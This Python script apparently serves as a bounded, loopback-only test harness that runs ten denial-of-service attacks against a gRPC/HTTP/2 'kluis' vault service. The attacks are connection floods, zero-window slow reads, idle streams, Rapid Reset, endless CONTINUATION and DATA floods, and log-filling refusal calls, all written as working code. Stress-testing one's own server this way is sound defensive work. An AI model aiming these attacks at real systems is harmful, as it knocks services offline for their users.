#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""One attacker over loopback: attack.py ATTACK PORT SECONDS [--certificate STEM] [--source ADDRESS].

Ends by itself after SECONDS, holds at most 3,000 connections, and prints one line of what it did. Without
--certificate it tries the same, and is as far as it gets."""
import argparse
import collections
import os
import resource
import socket
import struct
import sys
import threading
import time

import http2
from http2 import CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, RST_STREAM, WINDOW_UPDATE, frame

STATUS = "/kluis.v1.VaultService/GetVaultStatus"
BATCH = "/kluis.v1.EnrollmentService/BatchEnroll"
OPEN_CASE = "/kluis.v1.CaseService/OpenCase"
HOLDINGS = "/kluis.v1.SubjectService/GetHoldings"
WITHDRAW = "/kluis.v1.SubjectService/WithdrawConsent"
MOST_CONNECTIONS = 3000
MOST_BYTES = 8 << 30


class Attacker:
    def __init__(self, options):
        self.options = options
        self.end = time.monotonic() + options.seconds
        self.done = collections.Counter()
        self.lock = threading.Lock()

    def over(self):
        return time.monotonic() >= self.end

    def count(self, what, number=1):
        with self.lock:
            self.done[what] += number
            return self.done[what]

    def connect(self, window=65535):
        """A connection; None when the server, or its front, gave none."""
        try:
            connection = http2.Connection(self.options.port, self.options.certificate, self.options.source,
                                          window, timeout=5)
            self.count("connections")
            return connection
        except OSError:
            self.count("refused")
            self.lie_low()
            return None

    def lie_low(self):
        """Who connects too often is kept out by that alone, and would try nothing else."""
        time.sleep(0.25)

    def repeat(self, step, window=65535):
        """`step` on one connection after the other until the time is over."""
        while not self.over():
            connection = self.connect(window)
            if connection is None:
                continue
            try:
                while not self.over():
                    step(connection)
            except OSError:
                self.count("cut off")
                self.lie_low()
            finally:
                connection.close()

    def threads(self, number, target, *arguments):
        running = [threading.Thread(target=target, args=arguments, daemon=True) for _ in range(number)]
        for thread in running:
            thread.start()
        for thread in running:
            thread.join(self.options.seconds + 15)

    # The attacks.

    def tcp_connections(self):
        """3,000 connections at once, closed at the end."""
        held = []
        while not self.over():
            if len(held) >= MOST_CONNECTIONS:
                held.pop(0).close()
            try:
                connection = socket.create_connection(("127.0.0.1", self.options.port), 5,
                                                      (self.options.source, 0))
                connection.setblocking(False)
                held.append(connection)
                self.count("connections")
            except OSError:
                self.count("refused")
        for connection in held:
            connection.close()

    def tls_connections(self):
        """As many with a finished handshake."""
        held = collections.deque()

        def hold():
            while not self.over():
                connection = self.connect()
                if connection is not None:
                    held.append(connection)
                if len(held) >= MOST_CONNECTIONS:
                    held.popleft().close()

        self.threads(4, hold)
        while held:
            held.pop().close()

    def never_reads(self):
        """740 calls over three connections whose window is 0, for as long as it lasts."""
        def hold():
            while not self.over():
                connection = self.connect(window=0)
                if connection is None:
                    continue
                try:
                    for _ in range(247):
                        connection.call(HOLDINGS, b"")
                        self.count("calls")
                    for _ in connection.frames():  # until it is cut off
                        if self.over():
                            break
                except OSError:
                    self.count("cut off")
                    self.lie_low()
                finally:
                    connection.close()

        self.threads(3, hold)

    def idle_streams(self):
        """512 streams of BatchEnroll that say nothing."""
        def hold():
            while not self.over():
                connection = self.connect()
                if connection is None:
                    continue
                try:
                    for _ in range(128):
                        connection.call(BATCH, end=False)
                        self.count("calls")
                    for _ in connection.frames():
                        if self.over():
                            break
                except OSError:
                    self.count("cut off")
                    self.lie_low()
                finally:
                    connection.close()

        self.threads(4, hold)

    def batches(self):
        """Atomic batches of as many rows as fit."""
        row = http2.message(b"\x12" + http2.integer(2000) + bytes(2000))
        begin = http2.message(b"\x0a\x04\x08\x01\x10\x40")

        def step(connection):
            stream = connection.call(BATCH, end=False)
            connection.send(frame(DATA, 0, stream, begin))
            for _ in range(30):  # within the first window of a stream
                connection.send(frame(DATA, 0, stream, row))
                self.count("rows")
            if connection.stream > 200:
                raise OSError("a new connection")

        self.threads(3, self.repeat, step)

    def rapid_reset(self):
        """Calls that are reset as soon as they are made."""
        block = http2.call_headers(STATUS)
        cancel = struct.pack(">I", 8)

        def step(connection):
            data = b""
            for _ in range(500):
                stream = connection.next_stream()
                data += frame(HEADERS, END_HEADERS | END_STREAM, stream, block) + frame(RST_STREAM, 0, stream, cancel)
            connection.send(data)
            self.count("resets", 500)

        self.threads(4, self.repeat, step)

    def pour(self, connection, kind, stream, piece):
        """Frames of one stream, until somebody ends it."""
        while not self.over():
            connection.send(frame(kind, 0, stream, piece))
            if self.count("bytes", len(piece)) > MOST_BYTES:
                return

    def continuation(self):
        """Headers that never end."""
        piece = http2.literal(b"x-filler", b"x" * 8000)

        def step(connection):
            stream = connection.next_stream()
            connection.send(frame(HEADERS, 0, stream, http2.call_headers(STATUS)))
            self.pour(connection, CONTINUATION, stream, piece)

        self.threads(2, self.repeat, step)

    def endless_body(self):
        """One message that announces 4 GB and goes on as far as the windows let it."""
        piece = bytes(16_000)

        def step(connection):
            stream = connection.call(WITHDRAW, end=False)
            connection.send(frame(DATA, 0, stream, struct.pack(">BI", 0, 0xFFFFFFF0)))
            self.pour(connection, DATA, stream, piece)

        self.threads(4, self.repeat, step)

    def long_texts(self):
        """OpenCase with texts of 200 KB, each with another request id: as far as the windows let it."""
        text = http2.message(b"\x0a" + http2.integer(36) + os.urandom(18).hex().encode()
                             + b"\x1a\xc0\x9a\x0c" + bytes(200_000))

        def step(connection):
            stream = connection.call(OPEN_CASE, end=False)
            sent = 0
            window = 65_535
            while sent < len(text) and not self.over():
                size = min(16_000, len(text) - sent, window)
                if size > 0:
                    last = END_STREAM if sent + size == len(text) else 0
                    connection.send(frame(DATA, last, stream, text[sent:sent + size]))
                    sent, window = sent + size, window - size
                    continue
                for kind, flags, of, payload in connection.frames():
                    if kind == WINDOW_UPDATE and of == stream:
                        window += int.from_bytes(payload, "big")
                        break
                    if of == stream and (kind == RST_STREAM or flags & END_STREAM):
                        return
                else:
                    raise OSError("closed")
            self.count("calls")
            connection.answer(stream)

        self.threads(8, self.repeat, step)

    def refusals(self):
        """Calls that are refused, each of which is an entry of the log when it is decided."""
        def step(connection):
            connection.answer(connection.call(STATUS, b""))
            self.count("calls")

        self.threads(8, self.repeat, step)


ATTACKS = {name.replace("_", "-"): name for name in (
    "tcp_connections", "tls_connections", "never_reads", "idle_streams", "batches", "rapid_reset", "continuation",
    "endless_body", "long_texts", "refusals")}


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("attack", choices=sorted(ATTACKS))
    parser.add_argument("port", type=int)
    parser.add_argument("seconds", type=float)
    parser.add_argument("--certificate")
    parser.add_argument("--source", default="127.0.0.1")
    options = parser.parse_args()
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, 8192), hard))
    attacker = Attacker(options)
    getattr(attacker, ATTACKS[options.attack])()
    print(options.attack, *(f"{what}={number}" for what, number in sorted(attacker.done.items())))
    sys.stdout.flush()
    os._exit(0)  # threads that still wait for a server need not be waited for


if __name__ == "__main__":
    main()
